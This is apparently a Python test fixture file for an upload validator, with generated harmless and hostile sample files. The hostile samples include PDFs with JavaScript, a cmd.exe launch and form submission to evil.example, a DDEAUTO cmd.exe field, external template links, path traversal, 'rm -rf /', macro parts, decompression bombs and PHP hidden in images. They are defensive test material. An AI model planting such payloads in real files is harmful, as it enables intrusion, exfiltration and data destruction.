"""Files as applicants send them: what was made to do harm, and what telephones, scanners and offices honestly make."""

import io
import struct
from collections.abc import Callable

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

from tests.hostile.files import DOCX, EXIF, JPEG, MACROS, OFD, PAGE, PNG, PROGRAM, XLSX, archive, picture, png, word

FREE, END_OF_CHAIN, TABLE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
GPS = EXIF + b"GPS 36.0986 N 120.3719 E"
RELATIONS = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="http://evil.example/x" TargetMode="External"/></Relationships>'
)


def compound(*names: str, follows: int = END_OF_CHAIN) -> bytes:
    """Return an old document with streams called NAMES; FOLLOWS is the sector after that of the directory."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END_OF_CHAIN, 0, END_OF_CHAIN, 0)
    header += struct.pack("<109I", 0, *[FREE] * 108)
    table = struct.pack("<128I", TABLE, follows, END_OF_CHAIN, *[FREE] * 125)
    entries = b"".join(_entry(name, 5 if name == "Root Entry" else 2) for name in ("Root Entry", *names)[:4])
    return header + table + entries.ljust(512, b"\0") + bytes(4096)


def large_compound(*names: str, following: int = END_OF_CHAIN) -> bytes:
    """Return an old document of 8 MB whose directory stands behind what its header alone can find."""
    small, directory = compound(*names), 15_000
    header = small[:48] + struct.pack("<I", directory) + small[52:68] + struct.pack("<II", 1, 1) + small[76:512]
    more = struct.pack("<128I", *[2] * 127, following)
    table = struct.pack("<128I", *[END_OF_CHAIN] * 128)
    content = (small[512:1024] + more + table).ljust(directory * 512, b"\0") + small[1024:1536]
    return header + content.ljust(8 * 1024 * 1024, b"\0")


def _entry(name: str, kind: int) -> bytes:
    text = name.encode("utf-16-le") + b"\0\0"
    return text.ljust(64, b"\0") + struct.pack("<HB", len(text), kind) + bytes(61)


def pdf(change: Callable[[Pdf], object] = lambda made: None, pages: int = 1, **options: object) -> bytes:
    """Return a PDF after CHANGE."""
    made, out = pikepdf.new(), io.BytesIO()
    for _number in range(pages):
        made.add_blank_page()
    change(made)
    made.save(out, **options)
    return out.getvalue()


def _opens(made: Pdf, **action: object) -> None:
    made.Root.OpenAction = Dictionary(**action)


def _script(made: Pdf) -> None:
    _opens(made, S=Name.JavaScript, JS=String("app.alert(1)"))


def _annotation(made: Pdf, **what: object) -> None:
    annotation = made.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 10, 10]), **what))
    made.pages[0].Annots = Array([annotation])


def _attached(made: Pdf) -> None:
    made.attachments["a.exe"] = PROGRAM


def _deep(made: Pdf) -> None:
    found: object = Dictionary(S=Name.JavaScript)
    for _number in range(60):
        found = Array([found])
    made.Root.Deep = found


def heic(size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", size, "teal")).save(out)
    return out.getvalue()


def drawn(mode: str, kind: str, size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    """Return a picture of KIND whose pixels are of MODE."""
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **options)
    return out.getvalue()


def turned() -> bytes:
    """Return a photo of 40 by 30 pixels that says it was taken upright: 30 by 40 on the screen."""
    made, exif = io.BytesIO(), Image.Exif()
    exif[0x0112] = 6
    Image.new("RGB", (40, 30), "teal").save(made, "JPEG", exif=exif)
    return made.getvalue()


def _claims(width: int, height: int) -> bytes:
    """Return a JPEG that claims to be WIDTH by HEIGHT pixels."""
    place = JPEG.index(b"\xff\xc0") + 5
    return JPEG[:place] + struct.pack(">HH", height, width) + JPEG[place + 4 :]


def _scripted_with_relations(kind: str) -> bytes:
    return word(**{"_rels/document.xml.rels": RELATIONS.format(kind).encode()})


MANIFEST = {"[Content_Types].xml": b"<Types/>"}
REFUSED: dict[str, tuple[bytes, str]] = {
    # Other things under a harmless name
    "empty.jpg": (b"", "empty"),
    "page.jpg": (PAGE, "page"),
    "drawing.svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "page"),
    "drawing.png": (b'<?xml version="1.0"?><svg><script>alert(1)</script></svg>', "page"),
    "program.exe": (PROGRAM, "program"),
    "program.pdf": (PROGRAM, "program"),
    "unix.jpg": (b"\x7fELF" + bytes(100), "program"),
    "shell.pdf": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "link.pdf": (b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60), "program"),
    "text.txt": (b"a list of names", "unknown"),
    "photos.zip": (archive({"1.jpg": JPEG}), "archive"),
    "photos.jpg": (archive({"1.jpg": JPEG}), "archive"),
    "outside.zip": (archive({"../../etc/passwd": b"x"}), "archive"),
    "photos.rar": (b"Rar!\x1a\x07\x00" + bytes(100), "archive"),
    "photos.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(100), "archive"),
    "photos.gz": (b"\x1f\x8b\x08" + bytes(100), "archive"),
    "film.mp4": (b"\x00\x00\x00\x18ftypmp42" + bytes(100), "video"),
    "sound.mp3": (b"ID3\x03" + bytes(100), "video"),
    "photo.gif": (drawn("P", "GIF"), "image"),
    "photo.bmp": (drawn("RGB", "BMP"), "image"),
    "photo.tif": (drawn("RGB", "TIFF"), "image"),
    "photo.webp": (picture("WEBP"), "image"),
    # Names that lie
    "contract.jpg": (pdf(), "name"),
    "photo.pdf": (JPEG, "name"),
    "table.xlsx": (DOCX, "name"),
    "photo.exe": (JPEG, "name"),
    "photo.jpg.html": (JPEG, "name"),
    # Pictures
    "cut.jpg": (picture("JPEG", (800, 600))[:900], "picture_broken"),
    "head.jpg": (b"\xff\xd8\xff\xe0" + bytes(50), "picture_broken"),
    "cut.png": (PNG[:40], "picture_broken"),
    "cut.heic": (heic()[:200], "picture_broken"),
    "bomb.png": (png(30_000, 30_000), "pixels"),
    "nearly.png": (png(8_000, 5_001), "pixels"),
    "claims.jpg": (_claims(65_000, 65_000), "pixels"),
    # PDF
    "script.pdf": (pdf(_script), "pdf_script"),
    "hidden script.pdf": (
        pdf(_script, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True),
        "pdf_script",
    ),
    "launch.pdf": (pdf(lambda made: _opens(made, S=Name.Launch, F=String("cmd.exe"))), "pdf_script"),
    "sends.pdf": (pdf(lambda made: _opens(made, S=Name.SubmitForm, F=String("http://evil.example"))), "pdf_script"),
    "film.pdf": (pdf(lambda made: _annotation(made, Subtype=Name.RichMedia)), "pdf_script"),
    "xfa.pdf": (
        pdf(lambda made: setattr(made.Root, "AcroForm", Dictionary(XFA=Stream(made, b"<xdp/>")))),
        "pdf_script",
    ),
    "attached.pdf": (pdf(_attached), "pdf_files"),
    "pinned.pdf": (pdf(lambda made: _annotation(made, Subtype=Name.FileAttachment)), "pdf_files"),
    "locked.pdf": (pdf(encryption=pikepdf.Encryption(user="u", owner="o")), "pdf_password"),
    "deep.pdf": (pdf(_deep), "pdf_broken"),
    "cut.pdf": (pdf()[:300], "pdf_broken"),
    "nothing.pdf": (b"%PDF-1.7\n" + bytes(300) + b"%%EOF\n", "pdf_broken"),
    "pageless.pdf": (pdf(pages=0), "pdf_broken"),
    # Documents of parts
    "macros.docx": (word(**{"vbaProject.bin": b"x"}), "macros"),
    "macros 2.docx": (word(MACROS), "macros"),
    "controls.docx": (word(**{"activeX/activeX1.bin": b"x"}), "macros"),
    "old macros.xlsx": (archive(MANIFEST | {"xl/workbook.xml": b"<w/>", "xl/macrosheets/s1.xml": b"<x/>"}), "macros"),
    "template.docx": (_scripted_with_relations("attachedTemplate"), "office_outside"),
    "frame.docx": (_scripted_with_relations("frame"), "office_outside"),
    "calls.docx": (archive(MANIFEST | {"word/document.xml": b"<w:instrText>DDEAUTO c:\\cmd.exe"}), "office_outside"),
    "calls.xlsx": (
        archive(MANIFEST | {"xl/workbook.xml": b"<w/>", "xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}),
        "office_outside",
    ),
    "bomb.docx": (word(**{"media/a.bin": bytes(70 * 1024 * 1024)}), "unpacked"),
    "program.docx": (word(**{"media/run.exe": PROGRAM}), "archive"),
    "both.docx": (archive(MANIFEST | {"word/document.xml": b"<w/>", "xl/workbook.xml": b"<w/>"}), "archive"),
    "bare.docx": (archive({"word/document.xml": b"<w/>"}), "office_broken"),
    "pages.ofd": (archive({"OFD.xml": b"<o/>", "Doc_0/a.html": PAGE}), "archive"),
    # Old documents
    "macros.doc": (compound("WordDocument", "Macros", "VBA"), "macros"),
    "macros.xls": (compound("Workbook", "_VBA_PROJECT_CUR"), "macros"),
    "locked.docx": (compound("EncryptionInfo", "EncryptedPackage"), "office_password"),
    "setup.doc": (compound("SummaryInformation"), "unknown"),
    "circle.doc": (compound("WordDocument", follows=1), "office_broken"),
    "round table.doc": (large_compound("WordDocument", following=1), "office_broken"),
    "cut.doc": (compound("WordDocument")[:600], "office_broken"),
}
# Taken, but nothing of this is left.
CARRIED = b"<?php secret 13900001234 ?>"
NEUTRALISED: dict[str, bytes] = {
    "comment.jpg": picture("JPEG", comment=CARRIED),
    "place.jpg": picture("JPEG", exif=GPS + CARRIED),
    "archive behind.jpg": JPEG + archive({"a.php": CARRIED}) + CARRIED,
    "film behind.jpg": JPEG + b"\x00\x00\x00\x18ftypmp42" + CARRIED,
    "page behind.png": PNG + PAGE + CARRIED,
}
TAKEN: dict[str, tuple[bytes, str]] = {
    "photo.jpg": (picture("JPEG", (1200, 900)), "image/jpeg"),
    "large.jpg": (picture("JPEG", (7000, 5000)), "image/jpeg"),
    "progressive.jpeg": (picture("JPEG", progressive=True), "image/jpeg"),
    "grey.jpg": (drawn("L", "JPEG"), "image/jpeg"),
    "print.jpg": (drawn("CMYK", "JPEG"), "image/jpeg"),
    "turned.jpg": (turned(), "image/jpeg"),
    "微信图片_20261128.jfif": (JPEG, "image/jpeg"),
    "no suffix": (JPEG, "image/jpeg"),
    "screen.png": (PNG, "image/jpeg"),
    "clear.png": (drawn("RGBA", "PNG"), "image/jpeg"),
    "palette.png": (drawn("P", "PNG", transparency=0), "image/jpeg"),
    "scan.png": (drawn("1", "PNG"), "image/jpeg"),
    "deep grey.png": (drawn("I;16", "PNG"), "image/jpeg"),
    "really a png.jpg": (PNG, "image/jpeg"),
    "IMG_0001.HEIC": (heic(), "image/jpeg"),
    "really heic.jpg": (heic(), "image/jpeg"),
    "contract.pdf": (pdf(), "application/pdf"),
    "20 pages.PDF": (pdf(pages=20), "application/pdf"),
    "packed.pdf": (pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "application/pdf"),
    "owner.pdf": (pdf(encryption=pikepdf.Encryption(user="", owner="o")), "application/pdf"),
    "linked.pdf": (
        pdf(
            lambda made: _annotation(
                made, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://portal.example/"))
            )
        ),
        "application/pdf",
    ),
    "letter.docx": (DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "linked.docx": (
        _scripted_with_relations("hyperlink"),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "table.xlsx": (XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "invoice.ofd": (OFD, "application/ofd"),
    "letter.doc": (compound("1Table", "WordDocument"), "application/msword"),
    "large.doc": (large_compound("WordDocument"), "application/msword"),
    "letter.wps": (compound("WordDocument"), "application/msword"),
    "table.xls": (compound("Workbook"), "application/vnd.ms-excel"),
}
